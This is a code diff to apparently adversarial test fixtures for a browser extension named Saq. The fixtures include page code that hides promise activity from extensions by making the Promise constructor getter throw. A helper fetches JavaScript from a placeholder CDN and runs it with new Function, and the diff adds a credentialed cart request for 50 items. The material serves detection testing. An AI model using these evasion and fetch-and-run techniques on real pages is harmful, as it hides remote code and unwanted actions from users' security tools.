@@ -442,9 +442,10 @@ export const LYING_HASHES = `(() => {
 /**
  * Page code that denies extensions every promise reaction: Promise.prototype.constructor becomes a getter
  * that throws when an extension's code is on the stack (`then` asks for it to make the derived promise) and
- * answers the page's own code truly. Then the helper does three things Saq knows only once a promise settles:
+ * answers the page's own code truly. Then the helper does four things Saq knows only once a promise settles:
  * an inline script (its SHA-256), code it fetched and read as text then compiled (known to come from the
- * network), and a WebRTC peer in an answer (the remote description, read once applied).
+ * network), a cart request whose body asks for 50 coins (the body read from Saq's copy), and a WebRTC peer
+ * in an answer (the remote description, read once applied).
  */
 export const THROWING_SPECIES = `(() => {
   ${PRELUDE}
@@ -462,6 +463,8 @@ export const THROWING_SPECIES = `(() => {
 export function speciesHelper(payloadTag: string): string {
   return `${HASHED_INLINE_HELPER}
 fetch('https://${HELPER_CDN}/${payloadTag}.js').then((r) => r.text()).then((code) => new Function(code)());
+const productId = document.querySelector('[data-role="buy-block"]')?.dataset.productId ?? 'p-102';
+fetch('/api/cart/items', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId, qty: 50 }) });
 (async () => {
   ${HARD_CODED_PEER}
   window.__speciesPeer = true;
